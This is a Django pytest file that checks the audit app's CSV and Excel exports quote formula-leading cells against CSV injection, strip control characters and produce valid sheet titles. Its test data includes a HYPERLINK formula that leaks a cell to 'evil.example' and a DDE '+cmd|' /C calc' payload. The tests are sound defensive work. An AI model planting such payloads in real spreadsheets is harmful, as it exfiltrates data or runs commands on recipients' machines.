"""Every CSV and Excel export: text somebody typed never goes out as a live formula (OWASP's CSV injection
advice), a control character in one record never breaks an export, and any name makes a sheet title."""

import csv
import datetime as dt
import io
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

from audits.models import Framework, Section11Return, Standard, StandardRating
from audits.section11_defaults import install_default
from audits.services.section11 import cycle_create
from tests.factories import ActionFactory, AgencyFactory, PlanFactory, RecommendationFactory
from tests.workflows.helpers import advance
from workflows.exports import plan_csv
from workflows.imports.reading import read_sheet
from workflows.models import Action, Agency, Plan, ProgressNote
from workflows.services.plan_import import plan_import
from workflows.spreadsheets import export_cell, sheet_title

pytestmark = pytest.mark.django_db
TODAY = timezone.localdate()
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
HOSTILE = [FORMULA, "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def xlsx_cells(content: bytes) -> list[list[Any]]:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    for row in sheet.iter_rows():
        for cell in row:
            # openpyxl reads a formula cell as data type "f": none may come back.
            assert cell.data_type != "f", f"{cell.coordinate} is a live formula: {cell.value!r}"
    return [list(r) for r in sheet.iter_rows(values_only=True)]


def no_cell_starts_a_formula(rows: list[list[Any]]) -> None:
    for row in rows:
        for value in row:
            assert not (isinstance(value, str) and value.startswith(("=", "+", "-", "@", "\t", "\r"))), value


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_starts_a_formula_is_quoted_and_anything_else_is_left_as_it_is(text: str) -> None:
    assert export_cell(text) == "'" + text
    assert export_cell("Audit 12 - done") == "Audit 12 - done"
    assert export_cell(3) == 3 and export_cell(-3) == -3
    assert export_cell(TODAY) == TODAY and export_cell(None) is None
    assert export_cell("bell\x07 and NUL\x00 gone") == "bell and NUL gone"


@pytest.fixture
def hostile_action(owner: User, manager: User) -> Action:
    action = ActionFactory.create(
        reference="X1",
        owner=owner,
        description="+cmd|' /C calc'!A0",
        recommendation=RecommendationFactory.create(source=PlanFactory.create(name="2026/27 plan")),
        due_on=TODAY - dt.timedelta(days=30),
    )
    advance(action, "in_progress", manager=manager)
    ProgressNote.objects.create(action=action, author=owner, text=FORMULA)
    return action


def test_a_formula_in_a_progress_note_goes_out_as_text_in_the_queue_exports(
    hostile_action: Action, manager: User
) -> None:
    client = Client()
    client.force_login(manager)
    rows = csv_rows(b"".join(client.get("/queue/export.csv").streaming_content))  # type: ignore[attr-defined]
    no_cell_starts_a_formula(rows)
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Progress & Evidence"] == "'" + FORMULA
    assert row["Objective"] == "'+cmd|' /C calc'!A0"
    cells = xlsx_cells(client.get("/queue/export.xlsx").getvalue())
    no_cell_starts_a_formula(cells)
    found = dict(zip(cells[0], cells[1], strict=True))
    assert found["Progress & Evidence"] == "'" + FORMULA
    # Numbers stay numbers.
    assert found["Days overdue"] == 30 and isinstance(found["Escalation level"], int)
    # The page shows what was written, unquoted.
    page = client.get(f"/actions/{hostile_action.pk}/").content.decode()
    assert "=HYPERLINK(" in page and "&#x27;=HYPERLINK" not in page


def test_a_formula_in_a_plan_goes_out_as_text_and_the_export_imports_back_unchanged(
    hostile_action: Action, manager: User
) -> None:
    plan = Plan.objects.get(name="2026/27 plan")
    client = Client()
    client.force_login(manager)
    for kind in ("csv", "xlsx"):
        response = client.get(f"/plans/{plan.pk}/export.{kind}")
        assert response.status_code == 200, kind
        rows = csv_rows(response.content) if kind == "csv" else xlsx_cells(response.content)
        no_cell_starts_a_formula(rows)
        row = dict(zip(rows[0], rows[1], strict=True))
        assert row["Progress & Evidence"] == "'" + FORMULA
        assert row["Objective"] == "'+cmd|' /C calc'!A0"
    # Importing the export again reads the quote back off: the text and the notes are as they were.
    notes = ProgressNote.objects.count()
    summary = plan_import(
        actor=manager, sheet=read_sheet("export.csv", plan_csv(plan)), source=plan.name
    ).summary()
    assert summary["errors"] == [] and summary["created"] == 0
    assert Action.objects.get().description == "+cmd|' /C calc'!A0"
    assert ProgressNote.objects.count() == notes


def test_a_control_character_in_one_owners_note_does_not_break_the_queue_export_for_everyone(
    hostile_action: Action, owner: User, manager: User
) -> None:
    ProgressNote.objects.create(action=hostile_action, author=owner, text="Pasted from a PDF\x0b\x1b page 2")
    client = Client()
    client.force_login(manager)
    response = client.get("/queue/export.xlsx")
    assert response.status_code == 200
    cells = xlsx_cells(response.getvalue())
    assert dict(zip(cells[0], cells[1], strict=True))["Progress & Evidence"] == "Pasted from a PDF page 2"
    plan = Plan.objects.get(name="2026/27 plan")
    assert client.get(f"/plans/{plan.pk}/export.xlsx").status_code == 200


@pytest.mark.parametrize(
    ("name", "title"),
    [
        ("2026/27", "2026-27"),
        ("Section 11: [draft]?", "Section 11- -draft--"),
        ("'quoted'", "quoted"),
        ("x" * 40, "x" * 31),
        ("///", "---"),
        ("''", "Sheet"),
    ],
)
def test_any_name_makes_a_sheet_title_excel_accepts(name: str, title: str) -> None:
    assert sheet_title(name) == title


def test_a_section_11_cycle_named_2026_27_downloads_its_matrix_with_formulas_quoted(manager: User) -> None:
    framework: Framework = install_default(Framework, Standard)
    cycle = cycle_create(actor=manager, name="Section 11 2026/27", lead=manager)
    agency = AgencyFactory.create(name="=1+1 Trust", kind=Agency.Kind.HEALTH)
    agency_return = Section11Return.objects.create(cycle=cycle, agency=agency, due_on=TODAY, title="x")
    StandardRating.objects.create(
        agency_return=agency_return, standard=framework.standards.all()[0], self_rating="green"
    )
    client = Client()
    client.force_login(manager)
    response = client.get(f"/section11/{cycle.pk}/matrix.xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    assert book.worksheets[0].title == "Section 11 2026-27"
    cells = xlsx_cells(response.content)
    no_cell_starts_a_formula(cells)
    assert cells[1][0] == "'=1+1 Trust"
    rows = csv_rows(client.get(f"/section11/{cycle.pk}/matrix.csv").content)
    no_cell_starts_a_formula(rows)
    assert rows[1][0] == "'=1+1 Trust"
